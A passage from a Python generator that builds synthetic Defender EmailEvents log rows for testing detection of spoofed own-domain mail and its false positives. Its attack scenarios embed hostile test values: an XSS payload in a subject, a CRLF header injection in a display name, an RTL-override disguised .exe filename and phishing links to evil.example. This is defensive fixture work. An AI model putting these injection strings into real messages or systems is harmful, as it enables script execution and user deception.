                language="fr" if sender.endswith("fabrikam.fr") else "en",
            )  # fmt: skip

    def intra_org(self, count: int) -> Iterator[Message]:
        for _ in range(count):
            name, sender = self.person()
            mail_from = sender
            if sender.endswith("@contoso.com") and self.chance(0.05):
                mail_from = sender.replace("@contoso.com", "@Contoso.com")
            to, cc = self.recipients(many=0.3)
            if self.chance(0.1):
                to = [self.pick(self.mailboxes), *to]
            roll = self.rng.random()
            if roll < 0.04:
                auth = auth_details("temperror", "pass", "temperror", "pass")
            elif roll < 0.06:
                auth = auth_details("TempError", "pass", "TEMPERROR", "pass")
            elif roll < 0.10:
                auth = auth_details("none", "none", "none", "none")
            else:
                auth = auth_details("pass", "pass", "pass", "pass")
            deleted = self.chance(0.02)
            yield Message(
                INTRA_ORG, self.time(), "Intra-org", mail_from, sender, name, "", self.exo_ipv6(),
                [t for t in to if t != sender] or [self.person()[1]], self.fill(self.pick(INTERNAL_SUBJECTS)), auth,
                cc=[c for c in cc if c != sender], location="Deleted items" if deleted else INBOX,
                attachments=self.rng.choice((0, 0, 0, 1)), language="fr" if sender.endswith("fabrikam.fr") else "en",
            )  # fmt: skip

    def lookalikes(self) -> Iterator[Message]:
        for i, domain in enumerate(LOOKALIKE_DOMAINS * 2):
            sender = f"{self.pick(('ceo', 'payroll', 'it-support', 'accounts'))}@{domain}"
            to, _ = self.recipients(many=0.2)
            dmarc = ("temperror", "TempError", "fail", "none")[i % 4]
            spf = ("temperror", "softfail", "pass", "temperror")[i % 4]
            delivered = i % 3 != 0
            yield Message(
                LOOKALIKE, self.time(office=False), "Inbound", sender, sender,
                self.pick((*HOSTILE_DISPLAY_NAMES[:4], "Contoso CEO")), self.public_ip(), "", to,
                self.pick((*HOSTILE_SUBJECTS[:4], "Wire transfer today", "Payroll update")),
                auth_details(spf, "none", dmarc, "fail"), action="Delivered" if delivered else "Junked",
                location=INBOX if delivered else JUNK, threat_types="" if delivered else "Phish",
                detection_methods="" if delivered else '{"Phish":["Domain impersonation"]}',
                email_action_policy="" if delivered else "Antiphish", first_contact=True, cluster="lookalike",
            )  # fmt: skip

    def subdomains(self) -> Iterator[Message]:
        for i in range(16):
            domain = SUBDOMAINS[i % len(SUBDOMAINS)]
            sender = f"{self.pick(('noreply', 'newsletter', 'alerts'))}@{domain}"
            to, _ = self.recipients(many=0.1)
            yield Message(
                SUBDOMAIN, self.time(), "Inbound", sender, sender, "Contoso " + domain.split(".")[0].title(),
                self.public_ip() if i % 2 else self.ip_in("198.2.128.0/18"), "", to,
                self.fill("{w} update {n}"), auth_details(("temperror", "pass")[i % 2], "pass", "temperror", "pass"),
                urls=self.rng.randint(1, 10), cluster="subdomain" + domain,
            )  # fmt: skip

    def fp_scheduler(self) -> Iterator[Message]:
        """(a) An hourly job mails ops through the on-prem relay; SPF/DMARC time out during the DNS outage."""
        jobs = ("Nightly-Backup", "AD-Sync", "Invoice-Export", "Disk-Usage")
        start = (BASE_TIME - WINDOW).replace(minute=15)
        for hour in range(24):
            moment = start + timedelta(
                hours=hour, seconds=self.rng.randint(0, 40), milliseconds=self.rng.randint(0, 999)
            )
            outage = DNS_OUTAGE[0] <= moment < DNS_OUTAGE[1]
            job = jobs[hour % len(jobs)]
            subject = f"[Scheduler] {job} completed ({moment:%Y-%m-%d %H:%M}Z)"
            yield Message(
                FP_SCHEDULER, moment, "Inbound", FP_SCHEDULER_ADDRESS, FP_SCHEDULER_ADDRESS, "Contoso Scheduler",
                FP_SCHEDULER_IP, "", ["ops-team@contoso.com"], subject,
                auth_details("temperror", "none", "temperror", "none") if outage
                else auth_details("pass", "none", "pass", "pass"),
                cc=["grady.archie@contoso.com"], connectors=FP_SCHEDULER_CONNECTOR, org_action="Allow",
                org_policy="Exchange transport rule",
                attachments=1 if job == "Invoice-Export" else 0, cluster="scheduler-" + job,
            )  # fmt: skip

    def fp_servicenow(self) -> Iterator[Message]:
        """(b) ServiceNow sends ticket mail as servicedesk@contoso.com; a few lookups time out."""
        temperror_at = {3, 11, 19, 27, 33}
        for i in range(38):
            number = self.rng.randint(10_000, 99_999)
            subject = self.pick((
                f"INC00{number} has been assigned to you",
                f"RITM00{number} approved",
                f"INC00{number} resolved: {self.pick(WORDS)} outage",
                f"Approval request CHG00{number}",
            ))  # fmt: skip
            dmarc = "temperror" if i in temperror_at else "pass"
            spf = "temperror" if i in (11, 27) else "pass"
            yield Message(
                FP_SERVICENOW, self.time(), "Inbound", "servicedesk@contoso.com", "servicedesk@contoso.com",
                "Contoso IT Service Desk", self.ip_in("149.96.6.0/24"), "", [self.person("contoso.com")[1]], subject,
                auth_details(spf, "pass", dmarc, "pass" if dmarc == "pass" else "softpass"), urls=2,
                cluster="servicenow" + subject[:3],
            )  # fmt: skip

    def fp_zendesk(self) -> Iterator[Message]:
        """(b) Zendesk sends agent notifications as support@contoso.com."""
        for i in range(28):
            ticket = self.rng.randint(40_000, 60_000)
            yield Message(
                FP_ZENDESK, self.time(), "Inbound", "support@contoso.com", "support@contoso.com",
                "Contoso Customer Support", self.ip_in("192.161.148.0/24"), "", [self.person()[1]],
                f"[Contoso Support] Re: Ticket #{ticket} - {self.pick(('Refund', 'Login issue', 'Delivery delay'))}",
                auth_details("pass", "pass", "temperror" if i in (5, 17, 24) else "pass", "pass"), urls=1,
                cluster="zendesk",
            )  # fmt: skip

    def fp_partner(self) -> Iterator[Message]:
        """(c) Tailspin Toys' portal mails as tailspintoys.com with Contoso/Fabrikam bounce addresses."""
        for i in range(9):
            domain = "fabrikam.fr" if i % 3 == 2 else "contoso.com"
            bounce = f"partner-bounces+{self.rng.randint(1000, 9999)}@{domain}"
            to, cc = self.recipients(many=0.3, domain=domain)
            yield Message(
                FP_PARTNER, self.time(), "Inbound", bounce, "portal@tailspintoys.com", "Tailspin Toys Partner Portal",
                FP_PARTNER_IPS[i % 2], "", to,
                self.fill(self.pick((
                    "Co-op marketing claim #{n} submitted",
                    "Order confirmation PO-{n}",
                    "Commande partenaire n°{n}" if domain == "fabrikam.fr" else "Partner statement {w}",
                ))),
                auth_details("softfail", "pass", "temperror", "softpass"), cc=cc, urls=3,
                language="fr" if domain == "fabrikam.fr" else "en", cluster="tailspin-portal",
            )  # fmt: skip

    def fp_hybrid(self) -> Iterator[Message]:
        """(d) On-prem mail hairpins back in from Contoso's egress; a broken SPF include gives perm/temperror."""
        for i in range(30):
            name, sender = self.person("contoso.com")
            mail_from = sender.replace("@contoso.com", "@Contoso.com") if i % 7 == 3 else sender
            to, cc = self.recipients(many=0.25)
            if i % 4 == 0:
                auth = auth_details("permerror", "none", "permerror", "fail")
            elif i in (5, 14, 22):
                auth = auth_details("permerror", "none", "temperror" if i != 22 else "TempError", "none")
            elif i == 9:
                auth = auth_details("temperror", "none", "permerror", "none")
            else:
                auth = auth_details("pass", "pass", "pass", "pass")
            yield Message(
                FP_HYBRID, self.time(), "Inbound", mail_from, sender, name, self.ip_in("52.100.163.0/24"), "", to,
                self.fill(self.pick(INTERNAL_SUBJECTS)), auth, cc=cc, connectors=FP_HYBRID_CONNECTOR,
                attachments=self.rng.choice((0, 1)),
            )  # fmt: skip

    def attacks(self) -> Iterator[Message]:
        """TRUE attacks: the accepted domains spoofed from outside, DMARC/SPF temperror, delivered to Inbox."""
        late = BASE_TIME - timedelta(hours=3)

        def attack(mail_from: str, display: str, subject: str, auth: str, to: list[str], **extra: Any) -> Message:
            return Message(
                ATTACK, self.time(latest=late), "Inbound", mail_from, extra.pop("sender_from", mail_from.lower()),
                display, extra.pop("ipv4", self.public_ip()), extra.pop("ipv6", ""), to, subject, auth,
                first_contact=True, urls=1, cluster="attack-" + mail_from, **extra,
            )  # fmt: skip

        ceo = attack("ceo@contoso.com", "Megan Okafor (CEO)", "[Pay now](https://evil.example/x) - wire before 5pm",
                     auth_details("temperror", "none", "temperror", "none"),
                     ["finance@contoso.com", "accounts-payable@contoso.com"])  # fmt: skip
        ceo.changes.append(
            Change(timedelta(minutes=47), "Blocked", QUARANTINE, "Moved to quarantine", ["finance@contoso.com"])
        )
        yield ceo
        yield attack("payroll@fabrikam.fr", "Service Paie", "<img src=x onerror=alert(1)>",
                     auth_details("softfail", "none", "temperror", "none"), [self.person("fabrikam.fr")[1]],
                     language="fr")  # fmt: skip
        yield attack("it-support@Contoso.com", "[IT Support](https://evil.example/login)",
                     "{{DATE(2020-01-01T00:00:00Z)}} password expires today",
                     auth_details("TempError", "none", "TempError", "none"),
                     [self.person("contoso.com")[1] for _ in range(3)])  # fmt: skip
        yield attack("accounts@contoso.com", "\u202eecivreS TI", "Invoice 2026-11 \u202efdp.exe",
                     auth_details("TEMPERROR", "none", "", "none", drop=("DMARC",)), [self.person()[1]],
                     attachments=1)  # fmt: skip
        yield attack("hr@fabrikam.fr", "Ressources Humaines", LONG_SUBJECT,
                     auth_details("fail", "none", "temperror", "fail"), [self.person("fabrikam.fr")[1]])  # fmt: skip
        v6 = f"2a0b:f4c0:{self.rng.randint(0x100, 0xFFF):x}::{self.rng.randint(2, 0xFF):x}"
        yield attack("helpdesk@contoso.com", "@channel <at>General</at>", HOSTILE_SUBJECTS[5],
                     auth_details("temperror", "fail", "temperror", "none"), [self.person()[1], self.person()[1]],
                     ipv4="", ipv6=v6)  # fmt: skip
        # Spoofs the scheduler's address, but from outside: an exclusion by sender alone would hide it.
        yield attack(FP_SCHEDULER_ADDRESS, "Contoso Scheduler", HOSTILE_SUBJECTS[4],
                     auth_details("temperror", "none", "temperror", "none"), ["ops-team@contoso.com"])  # fmt: skip
        # Sent from another Exchange Online tenant (52.100.0.0/14) without Contoso's connector: an exclusion
        # by IP range alone would hide it.
        yield attack("ceo@Contoso.com", "CEO\r\nX-Injected: yes", "Confidential: acquisition **draft**",
                     auth_details("pass", "none", "temperror", "none"), [self.person("contoso.com")[1]],
                     ipv4=self.ip_in("52.100.200.0/24"))  # fmt: skip

        for auth, subject in (
            ("", "Payment details changed"),
            ("{SPF=temperror", "Urgent: gift cards for a client"),
            ('{"spf":"temperror","dkim":"none","dmarc":"temperror","compauth":"none"}', "Updated bank details"),
        ):
            msg = attack("cfo@contoso.com", "Contoso CFO", subject, auth, [self.person("contoso.com")[1]])
            msg.scenario = ATTACK_UNREADABLE
            yield msg

    # -- rows ------------------------------------------------------------------------------------------------
    def rows(self, msg: Message) -> Iterator[Row]:
        network_id = self.guid()
        sender_host = domain_of(msg.sender_from).lower()
        if msg.direction != "Inbound" or msg.scenario == FP_HYBRID:
            prefix = self.pick(("DB9PR08MB", "AM6PR04MB", "PAXPR03MB", "VI1PR09MB"))
            server = f"{prefix}{self.rng.randint(1000, 9999)}"
            internet_id = f"<{server}{self.rng.getrandbits(96):024X}@{server}.eurprd08.prod.outlook.com>"
        else:
            internet_id = f"<{uuid.UUID(int=self.rng.getrandbits(128))}@{sender_host}>"
        cluster = self.cluster(msg.cluster or msg.subject[:40] + msg.sender_from)
        policy_guid = self.guid() if msg.email_action_policy else ""
        base: Row = {
            "TenantId": TENANT_ID,
            "NetworkMessageId": network_id,
            "InternetMessageId": internet_id,
            "SenderMailFromAddress": msg.mail_from,
            "SenderFromAddress": msg.sender_from,
            "SenderDisplayName": msg.display_name,
            "SenderObjectId": "",
            "SenderMailFromDomain": domain_of(msg.mail_from),
            "SenderFromDomain": domain_of(msg.sender_from),
            "SenderIPv4": msg.ipv4,
            "SenderIPv6": msg.ipv6,
            "Subject": msg.subject,
            "EmailClusterId": cluster,
            "EmailDirection": msg.direction,
            "ThreatTypes": msg.threat_types,
            "ThreatNames": msg.threat_names,
            "ThreatClassification": "",
            "DetectionMethods": msg.detection_methods,
            "ConfidenceLevel": msg.confidence,
            "BulkComplaintLevel": msg.bcl,
            "EmailAction": msg.email_action,
            "EmailActionPolicy": msg.email_action_policy,
            "EmailActionPolicyGuid": policy_guid,
            "AuthenticationDetails": msg.auth,
            "AttachmentCount": msg.attachments,
            "UrlCount": msg.urls,
            "EmailLanguage": msg.language,
            "Connectors": msg.connectors,
            "OrgLevelAction": msg.org_action,
            "OrgLevelPolicy": msg.org_policy,
            "UserLevelAction": msg.user_action,
            "UserLevelPolicy": msg.user_policy,
            "ForwardingInformation": "",
            "AdditionalFields": dict(msg.additional),
            "To": list(msg.to),
            "Cc": list(msg.cc),
            "IsFirstContact": msg.first_contact,
            "Context": "",
            "Type": "EmailEvents",
            "SourceSystem": "",
        }
        for index, recipient in enumerate(msg.recipients()):
            first = msg.time + timedelta(milliseconds=index * self.rng.randint(5, 120))
            yield self._row(base, recipient, first, msg.action, msg.location, "", "")
            for change in msg.changes:
                if change.recipients is not None and recipient not in change.recipients:
                    continue
                later = first + change.delay + timedelta(milliseconds=self.rng.randint(0, 999))
                if later > BASE_TIME:  # has not happened yet at the end of the sample day
                    continue
                row = self._row(base, recipient, later, change.action, change.location, change.latest_action,
                                change.location)  # fmt: skip
                if change.location == QUARANTINE:
                    row.update(ThreatTypes="Phish", DetectionMethods='{"Phish":["ZAP"]}', EmailActionPolicy="ZAP",
                               EmailAction="Send message to quarantine")  # fmt: skip
                    row["EmailActionPolicyGuid"] = policy_guid or self.guid()
                    row["AdditionalFields"] = {"PostDeliveryAction": "ZAP"}
                else:
                    row.update(ThreatTypes="", DetectionMethods="", ConfidenceLevel="", EmailAction="")
                    row["AdditionalFields"] = {"PostDeliveryAction": "AdminRelease"}
                yield row

    def _row(self, base: Row, recipient: str, moment: datetime, action: str, location: str, latest_action: str,
             latest_location: str) -> Row:  # fmt: skip
        self.report_seq += 1
        stamp = iso(moment)
        row: Row = {"TimeGenerated": stamp, "Timestamp": stamp}
        row.update(base)
        row.update(
            ReportId=f"{base['NetworkMessageId']}-{self.report_seq}",
            RecipientEmailAddress=recipient,
            RecipientObjectId=self.object_ids.get(recipient, ""),
            DeliveryAction=action,
            DeliveryLocation=location,
            LatestDeliveryAction=latest_action,
            LatestDeliveryLocation=latest_location,
            AdditionalFields=dict(base["AdditionalFields"]),
            To=list(base["To"]),
            Cc=list(base["Cc"]),
        )
        return {column: row[column] for column in COLUMNS}

    def messages(self) -> list[Message]:
        messages: list[Message] = []
        messages += self.inbound_baseline(950)
        messages += self.outbound(280)
        messages += self.intra_org(310)
        messages += self.lookalikes()
        messages += self.subdomains()
        messages += self.fp_scheduler()
        messages += self.fp_servicenow()
        messages += self.fp_zendesk()
        messages += self.fp_partner()
        messages += self.fp_hybrid()
        messages += self.attacks()
        return messages


def generate(seed: int = SEED) -> list[Row]:
    """All rows, sorted by time; checks that every row's scenario is recognisable from its columns."""
    gen = Generator(seed)
    rows: list[Row] = []
    for msg in gen.messages():
        for row in gen.rows(msg):
            got = classify(row)
            if got != msg.scenario:
                raise AssertionError(f"row of {msg.scenario} classifies as {got}: {row['SenderMailFromAddress']}")
            rows.append(row)
    rows.sort(key=lambda r: (r["TimeGenerated"], r["NetworkMessageId"], r["RecipientEmailAddress"]))
    _check(rows)
    return rows


def _check(rows: list[Row]) -> None:
    """The coverage the sample promises: every authentication value, every direction, all in the window."""
    seen: dict[str, set[str]] = {"SPF": set(), "DKIM": set(), "DMARC": set(), "CompAuth": set()}
    for row in rows:
        try:
            parsed = json.loads(row["AuthenticationDetails"])
        except ValueError:
            continue
        if isinstance(parsed, dict):
            for key, values in seen.items():
                if key in parsed:
                    values.add(parsed[key])
    for key, expected in (("SPF", SPF_VALUES), ("DKIM", DKIM_VALUES), ("DMARC", DMARC_VALUES),
                          ("CompAuth", COMPAUTH_VALUES)):  # fmt: skip
        missing = set(expected) - seen[key]
        if missing:
            raise AssertionError(f"no row has {key} {sorted(missing)}")
    earliest, latest = iso(BASE_TIME - WINDOW), iso(BASE_TIME)
    if not all(earliest <= r["TimeGenerated"] <= latest for r in rows):
        raise AssertionError("a row falls outside the 24-hour window")
    if {r["EmailDirection"] for r in rows} != {"Inbound", "Outbound", "Intra-org"}:
        raise AssertionError("a mail direction is missing")


def write_jsonl(rows: list[Row], path: Path, *, dense: bool = False) -> int:
    """One JSON object per line, ASCII-only (no raw bidi or control characters in the committed file).

    Unless `dense`, string columns whose value is "" are left out: Kusto strings are never null, so a missing
    string column reads as "" (the offline engine fills it from the schema). That keeps the file near 3 MB.
    """
    lines = []
    for row in rows:
        kept = row if dense else {k: v for k, v in row.items() if v != ""}
        lines.append(json.dumps(kept, ensure_ascii=True, separators=(",", ":")) + "\n")
    data = "".join(lines).encode("ascii")
    path.write_bytes(data)
    return len(data)


def scenario_rows(rows: list[Row]) -> Counter[str]:
    return Counter(classify(row) for row in rows)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("-o", "--output", type=Path, default=OUTPUT, help=f"default: {OUTPUT}")
    parser.add_argument("--seed", type=int, default=SEED)
    parser.add_argument("--dense", action="store_true", help='write every column, "" included (about 1.3x larger)')
    args = parser.parse_args(argv)
    rows = generate(args.seed)
    size = write_jsonl(rows, args.output, dense=args.dense)
    print(f"wrote {len(rows):,} rows, {size:,} bytes to {args.output}")
    for scenario, count in sorted(scenario_rows(rows).items()):
        print(f"  {scenario:32} {count:5}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
